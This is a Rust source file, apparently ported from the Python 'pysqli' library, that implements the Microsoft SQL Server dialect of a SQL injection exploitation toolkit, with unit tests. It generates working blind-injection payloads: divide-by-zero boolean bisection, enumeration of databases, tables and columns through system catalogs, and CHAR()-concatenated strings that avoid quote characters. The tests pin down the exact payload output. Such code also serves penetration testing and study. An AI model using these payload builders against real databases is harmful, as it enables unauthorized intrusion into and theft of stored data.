use crate::context::Context;
use crate::error::Result;
use crate::forge::SqlForge;

/// Microsoft SQL Server dialect, grounded in `pysqli.dbms.mssql.MssqlForge`.
pub struct MssqlForge {
    context: Context,
}

impl MssqlForge {
    pub fn new(context: Context) -> Self {
        Self { context }
    }
}

impl SqlForge for MssqlForge {
    fn context(&self) -> &Context {
        &self.context
    }

    fn wrap_bisec(&self, cdt: &str) -> Result<String> {
        let d = self.wrap_field(self.context.default_value());
        Ok(self.wrap_sql(&format!("SELECT CASE WHEN {cdt} THEN {d} ELSE 1/0 END")))
    }

    fn get_version(&self) -> Result<String> {
        Ok("@@VERSION".to_string())
    }

    fn get_databases(&self) -> Result<String> {
        Ok("SELECT name FROM master..sysdatabases".to_string())
    }

    fn get_tables(&self, db: &str) -> Result<String> {
        Ok(format!(
            "SELECT name FROM {db}..sysobjects WHERE xtype={}",
            self.wrap_string("U")
        ))
    }

    fn get_fields(&self, table: &str, db: &str) -> Result<String> {
        Ok(format!(
            "SELECT name FROM {db}..syscolumns WHERE id = (SELECT id FROM sysobjects WHERE name = {})",
            self.wrap_string(table)
        ))
    }

    /// MSSQL string literal escaping benefits from the portable
    /// `CHAR(c1)+CHAR(c2)+...` form unconditionally, not just when
    /// `encode_str` is set -- matches `MssqlForge.wrap_string` in the
    /// original, which never checks the flag.
    fn wrap_string(&self, s: &str) -> String {
        let parts: Vec<String> = s.chars().map(|c| format!("CHAR({})", c as u32)).collect();
        format!("({})", parts.join("+"))
    }

    fn string_len(&self, string: &str) -> String {
        format!("LEN({string})")
    }

    fn get_current_database(&self) -> String {
        "DB_NAME()".to_string()
    }

    fn get_user(&self) -> String {
        "user_name()".to_string()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::context::{FieldType, Method, Params};
    use indexmap::IndexMap;

    fn ctx() -> Context {
        let mut values = IndexMap::new();
        values.insert("id".to_string(), "1".to_string());
        Context::builder()
            .method(Method::Blind)
            .field_type(FieldType::Int)
            .default_value("1")
            .params(Params::Mapping {
                values,
                target: "id".to_string(),
            })
            .build()
            .unwrap()
    }

    #[test]
    fn wrap_string_uses_char_concatenation() {
        let forge = MssqlForge::new(ctx());
        assert_eq!(forge.wrap_string("U"), "(CHAR(85))");
        assert_eq!(forge.wrap_string("AB"), "(CHAR(65)+CHAR(66))");
    }

    #[test]
    fn string_len_uses_len_not_length() {
        let forge = MssqlForge::new(ctx());
        assert_eq!(forge.string_len("x"), "LEN(x)");
    }

    #[test]
    fn wrap_bisec_uses_case_when_divide_by_zero() {
        let forge = MssqlForge::new(ctx());
        let sql = forge.wrap_bisec("1=1").unwrap();
        assert!(sql.contains("CASE WHEN 1=1 THEN 1 ELSE 1/0 END"));
    }

    #[test]
    fn get_fields_only_prefixes_the_outer_table() {
        let forge = MssqlForge::new(ctx());
        let sql = forge.get_fields("users", "app").unwrap();
        assert_eq!(
            sql,
            "SELECT name FROM app..syscolumns WHERE id = (SELECT id FROM sysobjects WHERE name = (CHAR(117)+CHAR(115)+CHAR(101)+CHAR(114)+CHAR(115)))"
        );
    }
}
